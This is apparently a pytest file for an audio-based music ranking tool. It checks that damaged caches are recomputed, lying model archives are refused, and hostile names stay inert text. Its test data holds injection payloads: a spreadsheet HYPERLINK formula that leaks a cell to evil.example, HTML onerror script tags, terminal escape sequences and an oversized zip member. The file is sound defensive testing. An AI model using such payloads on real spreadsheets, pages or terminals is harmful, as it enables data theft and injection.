"""Nothing lost, nothing injected: damaged caches and model files, hostile names, outputs that would overwrite inputs.

Each test here reproduces a defect found by probing the tool as an unlucky user or an attacker would.
"""

import json
import os
import sqlite3
import warnings
import zipfile

import numpy as np
import pytest
from conftest import tone
from helpers import TINY, saved_model

from pers_rec.audio import extract
from pers_rec.audio.cache import FeatureCache, open_cache
from pers_rec.audio.scan import scan
from pers_rec.cli import main
from pers_rec.errors import EXIT_OK, EXIT_USAGE, CacheWarning, ModelFileError
from pers_rec.model import checkpoint

cfg = TINY


@pytest.fixture
def cached(lib, tmp_path):
    """The ``lib`` fixture's three files with their features in a fresh cache; returns (paths, fresh, cache_dir)."""
    paths = scan(lib)
    cache = open_cache(tmp_path / "cache")
    fresh = {str(e.path): e.features for e in extract.extract_many(paths, cfg, cache=cache, jobs=0)}
    cache.close()
    return paths, fresh, tmp_path / "cache"


def _rows(cache_dir, sql, args=()):
    db = sqlite3.connect(cache_dir / FeatureCache.FILE)
    with db:
        db.execute(sql, args)
    db.close()


def _truncate(cache_dir):
    path = cache_dir / FeatureCache.FILE
    db = sqlite3.connect(path)
    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    db.close()
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2 + 100])


def _random_bytes(cache_dir):
    path = cache_dir / FeatureCache.FILE
    for p in cache_dir.glob(FeatureCache.FILE + "-*"):
        p.unlink()
    path.write_bytes(np.random.default_rng(0).bytes(path.stat().st_size))


ROW_DAMAGE = {
    "wrong blob size": "UPDATE entries SET data = substr(data, 1, 100)",
    "NULL data": "UPDATE entries SET data = NULL",
    "n_frames off by one": "UPDATE entries SET n_frames = n_frames + 1",
    "text in an integer column": "UPDATE entries SET n_frames = 'many'",
    "0x0 features": "UPDATE entries SET n_frames = 0, n_features = 0, data = x''",
    "text data": "UPDATE entries SET data = 'abc'",
}


@pytest.mark.parametrize("damage", [*ROW_DAMAGE, "truncated file", "random bytes"])
def test_a_damaged_cache_is_recomputed_and_the_run_finishes(cached, damage):
    paths, fresh, cache_dir = cached
    if damage in ROW_DAMAGE:
        _rows(cache_dir, ROW_DAMAGE[damage])
    else:
        (_truncate if damage == "truncated file" else _random_bytes)(cache_dir)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", CacheWarning)  # a damaged file is set aside with a warning
        cache = open_cache(cache_dir)
        got = {str(e.path): e for e in extract.extract_many(paths, cfg, cache=cache, jobs=0)}
    assert set(got) == set(fresh) and all(e.ok for e in got.values())
    for p, e in got.items():
        np.testing.assert_array_equal(e.features, fresh[p])
    again = {str(e.path): e for e in extract.extract_many(paths, cfg, cache=cache, jobs=0)}
    assert all(e.cached and e.ok for e in again.values())  # recomputed rows were stored again
    cache.close()


@pytest.mark.parametrize("damage", ["NULL data", "truncated file", "random bytes"])
def test_cache_info_names_damage_and_cache_clear_always_works(cached, damage, capsys):
    _, _, cache_dir = cached
    if damage in ROW_DAMAGE:
        _rows(cache_dir, ROW_DAMAGE[damage])
        assert main(["cache", "info", "--cache", str(cache_dir)]) == EXIT_OK
        assert "3 damaged" in capsys.readouterr().out
    else:
        (_truncate if damage == "truncated file" else _random_bytes)(cache_dir)
    assert main(["cache", "clear", "--cache", str(cache_dir)]) == EXIT_OK
    assert "removed all" in capsys.readouterr().out
    assert not list(cache_dir.glob(FeatureCache.FILE + "*"))


def test_a_read_only_cache_folder_runs_without_storing(cached):
    paths, fresh, cache_dir = cached
    if os.geteuid() == 0:  # root writes anywhere: make the database refuse writes as a read-only folder would
        from pers_rec.audio import cache as cache_module

        real = cache_module.connect

        def read_only(path):
            db = real(path)
            db.execute("PRAGMA query_only = ON")
            return db

        cache_module.connect, undo = read_only, real
    else:
        cache_dir.chmod(0o555)
        undo = None
    try:
        with pytest.warns(CacheWarning):
            cache = open_cache(cache_dir)
            new = paths[0].parent / "new.wav"
            import soundfile as sf

            sf.write(new, tone(330, 2.0, 16000), 16000)
            got = list(extract.extract_many([*paths, new], cfg, cache=cache, jobs=0)) if cache else None
        if cache is not None:
            assert len(got) == 4 and all(e.ok for e in got)
            cache.close()
    finally:
        if undo:
            cache_module.connect = undo
        cache_dir.chmod(0o755)


def test_a_full_disk_runs_without_storing(cached):
    paths, fresh, cache_dir = cached
    cache = open_cache(cache_dir.parent / "empty")
    cache.compact = False  # float32 rows: these short clips then surely need a new page
    pages = cache._db.execute("PRAGMA page_count").fetchone()[0]
    cache._db.execute(f"PRAGMA max_page_count = {pages}")  # SQLITE_FULL on the next growth, as a full disk
    with pytest.warns(CacheWarning, match="cannot write the feature cache"):
        got = list(extract.extract_many(paths, cfg, cache=cache, jobs=0))
    assert len(got) == 3 and all(e.ok for e in got)
    cache.close()


# ---- model files that lie ----------------------------------------------------------------------------------------

def _rewrite(src, dst, meta_text=None, replace=None):
    """Copy a model archive, with ``pers_rec.json`` replaced by ``meta_text`` and members by ``replace``."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            if replace and item.filename in replace:
                continue
            data = zin.read(item.filename)
            if item.filename == checkpoint.META_NAME and meta_text is not None:
                data = meta_text.encode()
            zout.writestr(item.filename, data)
        for name, writer in (replace or {}).items():
            with zout.open(name, "w", force_zip64=True) as f:
                writer(f)
    return dst


@pytest.fixture(scope="module")
def good_model(tmp_path_factory):
    path = tmp_path_factory.mktemp("model") / "good.keras"
    checkpoint.save(path, saved_model())
    return path


def _edited(good_model, tmp_path, edit):
    meta = json.loads(zipfile.ZipFile(good_model).read(checkpoint.META_NAME))
    edit(meta)
    return _rewrite(good_model, tmp_path / "bad.keras", json.dumps(meta))


def _zeros(n_bytes):
    def write(f):
        chunk = bytes(1 << 20)
        for _ in range(n_bytes >> 20):
            f.write(chunk)
    return write


BAD_MODELS = {
    "JSON nested 100,000 deep": lambda g, t: _rewrite(g, t / "bad.keras", "[" * 100_000 + "]" * 100_000),
    "a 5,000-digit integer": lambda g, t: _rewrite(g, t / "bad.keras", '{"feature_config": {"sr": ' + "9" * 5000 + "}}"),
    "arch contradicts the network": lambda g, t: _edited(g, t, lambda m: m["model_config"].update(arch="cnn_gpool")),
    "pool_size edited to 3": lambda g, t: _edited(g, t, lambda m: m["model_config"].update(pool_size=3)),
    "kernel_size edited": lambda g, t: _edited(g, t, lambda m: m["model_config"].update(kernel_size=5)),
    "n_mels = 2e5": lambda g, t: _edited(g, t, lambda m: m["feature_config"].update(n_mels=200_000)),
    "n_fft = 2**30": lambda g, t: _edited(g, t, lambda m: m["feature_config"].update(n_fft=2**30)),
    "sr = 10**300": lambda g, t: _edited(g, t, lambda m: m["feature_config"].update(sr=10**300, hop_length=10**299)),
    "sr a float": lambda g, t: _edited(g, t, lambda m: m["feature_config"].update(sr=8000.5)),
    "a 200 MB member in a small zip": lambda g, t: _rewrite(g, t / "bad.keras", replace={"model.weights.h5": _zeros(200 << 20)}),
    "an unexpected member": lambda g, t: _rewrite(g, t / "bad.keras", replace={"evil.py": lambda f: f.write(b"x")}),
}


@pytest.mark.parametrize("lie", list(BAD_MODELS))
def test_a_model_file_that_lies_is_refused_before_any_audio(lie, good_model, lib, tmp_path, capsys, monkeypatch):
    bad = BAD_MODELS[lie](good_model, tmp_path)
    with pytest.raises(ModelFileError):
        checkpoint.load(bad)
    decoded = []
    from pers_rec.library import rank

    for module in (extract, rank):
        monkeypatch.setattr(module, "extract_many", lambda *a, **k: decoded.append(a) or iter(()))
    code = main(["rank", str(lib), "--model", str(bad), "--out", str(tmp_path / "r.csv"), "--quiet"])
    err = capsys.readouterr().err
    assert code == EXIT_USAGE and err.startswith("pers-rec: error: ") and err.count("\n") == 1 and str(bad) in err
    assert not decoded and not (tmp_path / "r.csv").exists()


def test_nan_weights_are_refused(tmp_path):
    saved = saved_model()
    w = saved.model.weights[3]
    w.assign(np.full(w.shape, np.nan, "float32"))
    checkpoint.save(tmp_path / "nan.keras", saved)
    with pytest.raises(ModelFileError, match="NaN or infinite"):
        checkpoint.load(tmp_path / "nan.keras")


def test_the_good_model_still_loads(good_model):
    assert checkpoint.load(good_model).mcfg.arch == "cnn_lstm"


# ---- hostile names and tags ----------------------------------------------------------------------------------------

NAMES = ["cost $5 and $6.wav", "100$ bill_$ remix.wav", "line\u2028sep.wav", "para\u2029sep.wav", "nel\x85x.wav",
         "esc\x1b[31mred.wav", "<img src=x onerror=alert(1)>.wav", "pipe | bar.wav"]
TITLES = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "=1+2", "@SUM(A1:A9)", "+1", "-1",
          "<img src=x onerror=alert(2)>", "a | b\nc", "\x1b]0;pwned\x07title"]


@pytest.fixture
def hostile(tmp_path):
    """A library whose file names, folder name and tags hold every character that broke an output once."""
    import soundfile as sf
    from conftest import tag

    lib = tmp_path / "Ca$h_$_Money"
    lib.mkdir()
    for i, (name, title) in enumerate(zip(NAMES, TITLES)):
        sf.write(lib / name, tone(220 + 40 * i, 3.0, 8000), 8000)
        tag(lib / name, artist=f"Artist {i}", title=title)
    return lib


@pytest.fixture(scope="module")
def default_model(tmp_path_factory):
    """An untrained small model on the default features, which map and filters use."""
    from pers_rec.audio.features import FeatureConfig

    path = tmp_path_factory.mktemp("model") / "default.keras"
    checkpoint.save(path, saved_model(FeatureConfig(), filters=(8, 8, 8, 8), lstm_units=8, dense_units=8))
    return path


@pytest.mark.slow
def test_hostile_names_and_tags_stay_text_everywhere(hostile, default_model, tmp_path, capsys):
    import pandas as pd

    good_model = default_model
    from pers_rec.players.playlists import read_labelled

    out = tmp_path / "out"
    csv_path, m3u = out / "r.csv", out / "top.m3u8"
    code = main(["rank", str(hostile), "--model", str(good_model), "--out", str(csv_path), "--m3u", str(m3u),
                 "--min-track-s", "0", "--cache", str(tmp_path / "cache"), "--quiet"])
    printed = capsys.readouterr()
    assert code == EXIT_OK, printed.err
    for stream in (printed.out, printed.err):  # nothing a terminal would act on
        assert not any(c in stream for c in "\x1b\x07\x85\u2028\u2029")
    df = pd.read_csv(csv_path, keep_default_na=False)
    assert sorted(os.path.basename(p) for p in df["path"]) == sorted(NAMES)  # the path column is left as it is
    for cell in df["title"]:  # every cell a spreadsheet would evaluate starts with a quote
        assert not cell.startswith(("=", "+", "-", "@")), cell
    assert set(df["title"].str.lstrip("'")) == set(TITLES)
    # the M3U8 reads back, every hostile name included, as train --likes would read it
    assert sorted(p for p, _ in read_labelled(m3u, 1)) == sorted(os.path.realpath(hostile / n) for n in NAMES)
    m3u.read_bytes().decode("utf-8")

    png = out / "why.png"
    assert main(["explain", str(hostile / NAMES[1]), "--model", str(good_model), "--out", str(png), "--no-cache"]) == 0
    assert png.stat().st_size > 1000
    html_out = out / "map.html"
    assert main(["map", str(hostile), "--model", str(good_model), "--out", str(html_out), "--no-cache", "--quiet"]) == 0
    assert html_out.with_suffix(".png").exists()

    fdir = out / "filters"
    assert main(["filters", str(hostile), "--model", str(good_model), "--out", str(fdir), "--top", "8", "--no-cache",
                 "--quiet"]) == 0
    index = (fdir / "index.md").read_text(encoding="utf-8")
    assert "<img" not in index and "\x1b" not in index and "\u2028" not in index
    for line in index.splitlines():  # every table row is whole: it starts and ends with a cell border
        if line.startswith("|"):
            assert line.endswith("|") and line.count(" | ") == line.replace("\\|", "").count(" | "), line
    for playlist in fdir.glob("*.m3u8"):
        text = playlist.read_bytes().decode("utf-8")  # valid UTF-8, or this raises
        assert sorted(p for p, _ in read_labelled(playlist, 1)) == sorted(os.path.realpath(hostile / n) for n in NAMES)
        assert "\x1b" not in text


def test_figure_text_is_never_math(tmp_path):
    from pers_rec.plots import figure

    with figure(tmp_path / "t.png", figsize=(2, 2)) as fig:
        title = fig.suptitle("cost $5 and $6.wav")
    assert title.get_parse_math() is False and (tmp_path / "t.png").stat().st_size > 0


def test_outputs_that_would_overwrite_inputs_are_refused(tmp_path, lib, capsys):
    likes = tmp_path / "taste.json"
    likes.write_text("[]")
    code = main(["train", "--likes", str(likes), "--library", str(lib), "--model", str(tmp_path / "taste.keras")])
    assert code == EXIT_USAGE and "--model's report" in capsys.readouterr().err and likes.read_text() == "[]"


def test_a_name_at_the_length_limit_is_written(tmp_path):
    from pers_rec.fileio import check_output, write_text

    name = "x" * 251 + ".csv"  # 255 bytes: fine for the file system, too long with a temporary prefix and suffix
    check_output(tmp_path / name, (".csv",), "--out")
    write_text(tmp_path / name, "a\n")
    assert (tmp_path / name).read_text() == "a\n"
    from pers_rec.errors import ParameterError

    with pytest.raises(ParameterError, match="longer than the 255 bytes"):
        check_output(tmp_path / ("x" * 252 + ".csv"), (".csv",), "--out")
